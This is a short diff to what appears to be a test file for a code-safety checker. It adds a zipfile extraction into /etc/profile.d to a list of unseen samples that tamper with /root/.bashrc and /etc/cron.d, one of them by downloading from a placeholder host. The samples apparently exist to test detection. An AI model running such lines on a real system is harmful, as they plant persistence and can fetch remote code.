@@ -47,6 +47,7 @@ UNSEEN = [
     "import subprocess\nsubprocess.run(['ls'], stdout=open('/root/.bashrc', 'w'))",
     "import shutil\nshutil.copy('x', '/root/.bashrc')",
     "import shutil\nshutil.copy('x', '/etc/cron.d')",
+    "import zipfile\nzipfile.ZipFile('a.zip').extractall('/etc/profile.d')",
     "import os\nos.symlink('/workspace/x', '/root/.bashrc')",
     "import urllib.request\nurllib.request.urlretrieve('https://a.example/x', '/root/.bashrc')",
     "open('x', 'a').write('ls')\nimport os\nos.rename('x', '/root/.bashrc')",
